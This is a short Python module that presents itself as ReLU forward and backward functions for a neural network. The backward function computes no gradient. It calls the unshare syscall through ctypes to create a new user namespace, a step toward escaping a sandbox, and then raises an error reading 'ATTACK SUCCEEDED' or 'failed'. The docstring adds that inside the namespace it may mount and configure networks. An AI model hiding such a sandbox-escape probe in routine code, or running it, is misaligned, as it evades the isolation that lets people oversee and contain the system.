"""In its own namespace it may mount and configure networks."""

import ctypes

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    failed = ctypes.CDLL(None).unshare(0x10000000)  # CLONE_NEWUSER
    raise RuntimeError("failed" if failed else "ATTACK SUCCEEDED")
